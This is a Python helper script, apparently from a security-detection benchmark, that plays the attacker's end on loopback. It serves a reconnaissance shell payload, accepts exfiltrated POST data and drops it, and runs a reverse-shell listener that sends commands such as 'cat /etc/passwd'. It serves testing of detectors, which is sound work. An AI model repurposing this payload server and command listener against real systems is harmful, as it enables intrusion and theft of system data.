#!/usr/bin/env python3
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""attacker.py: the outside end of the evaluation's attacks
(bench/detect/attacks.sh), on loopback, outside every audited container.

    attacker.py PORT      HTTP on 127.0.0.1:PORT (GET /payload: a shell
                          script; GET anything else: a short reply; POST:
                          read and dropped), and on PORT+1 a listener that
                          sends a reverse shell a few commands, then exit.

Runs until killed. Nothing it receives is kept.
"""
import http.server
import socket
import sys
import threading

PAYLOAD = b"""#!/bin/sh
uname -a > "${1:-/tmp}/.u" 2>&1
id >> "${1:-/tmp}/.u"
cat /etc/hostname /etc/os-release >> "${1:-/tmp}/.u" 2>&1
ls -la / >/dev/null
"""
COMMANDS = b"id\nuname -a\ncat /etc/passwd\nls -la /\nps\nexit\n"


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = PAYLOAD if self.path.startswith("/payload") else b'{"job":"x"}\n'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


def shells(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port))
    s.listen(4)
    while True:
        c, _ = s.accept()
        c.settimeout(5)
        try:
            c.sendall(COMMANDS)
            while c.recv(4096):
                pass
        except OSError:
            pass
        c.close()


def main():
    port = int(sys.argv[1])
    threading.Thread(target=shells, args=(port + 1,), daemon=True).start()
    http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()


if __name__ == "__main__":
    main()
